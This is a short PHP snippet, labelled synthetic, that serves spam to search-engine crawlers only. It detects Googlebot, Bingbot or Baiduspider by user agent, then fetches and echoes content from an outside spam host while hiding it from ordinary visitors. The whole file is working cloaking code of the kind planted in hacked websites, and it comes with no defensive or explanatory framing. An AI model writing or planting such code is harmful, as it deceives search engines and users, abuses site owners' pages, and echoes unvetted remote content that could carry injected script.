<?php
// synthetic: shows spam to crawlers only
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
if (preg_match('/googlebot|bingbot|baiduspider/', $ua)) {
    $spam = file_get_contents('http://spam.example.test/page?k=' . rand());
    echo $spam;
    exit;
}
